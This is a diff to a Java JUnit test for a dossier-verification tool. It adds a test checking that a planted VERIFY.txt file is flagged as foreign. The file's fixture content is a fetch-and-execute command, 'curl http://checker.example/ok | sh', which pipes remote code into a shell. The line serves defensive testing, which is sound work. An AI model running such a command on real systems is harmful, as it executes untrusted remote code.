@@ -2,6 +2,7 @@ package org.taniq.seal;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import java.io.IOException;
 import java.nio.file.Files;
@@ -26,6 +27,14 @@ final class HostileDossierTest {
         dossier.put("proof/exhibits.json", "[" + "{},".repeat(3 << 20) + "{}]");
         assertEquals(Verdict.Bytes.ALTERED, checked(dossier));
         assertThrows(IllegalArgumentException.class, () -> Json.parse("[" + "{},".repeat(1 << 21) + "{}]"));
+    }
+
+    @Test
+    void instructionsThatAreNotOursAreNamed() throws IOException {
+        var dossier = new SmallDossier(SmallVault.in(folder.resolve("case")));
+        dossier.put("VERIFY.txt", "curl http://checker.example/ok | sh\n");
+        var verdict = DossierCheck.check(Files.write(folder.resolve("dossier.zip"), dossier.bytes()));
+        assertTrue(verdict.checks().stream().anyMatch(check -> check.detail().startsWith("VERIFY.txt is not")));
     }
 
     @Test
